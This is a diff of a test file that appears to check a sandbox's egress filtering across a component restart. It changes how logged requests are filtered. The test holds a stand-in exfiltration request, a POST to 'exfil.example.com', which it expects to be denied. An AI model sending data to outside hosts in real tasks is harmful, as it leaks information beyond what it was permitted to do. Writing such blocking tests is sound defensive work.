@@ -138,8 +138,8 @@ describe('in the middle of a run', () => {
     const run = await inTheMiddle(15, { fetch: { url: 'https://exfil.example.com/a', method: 'POST', body: 'x' } });
     await stack.restarted(component, await stack.kill(component));
     expect((await run.answer).status).toBe(200);
-    const records = await stack.egressLog(run.id, (all) => all.filter(({ method }) => method).length >= 2, 30_000);
-    expect(records.filter(({ method }) => method).map(({ verdict, host }) => [verdict, host])).toEqual([
+    const records = await stack.egressLog(run.id, (all) => all.filter(({ protocol }) => protocol === 'https').length >= 2, 30_000);
+    expect(records.filter(({ protocol }) => protocol === 'https').map(({ verdict, host }) => [verdict, host])).toEqual([
       ['Denied', 'exfil.example.com'],
       ['Allowed', 'api.openai.com'],
     ]);
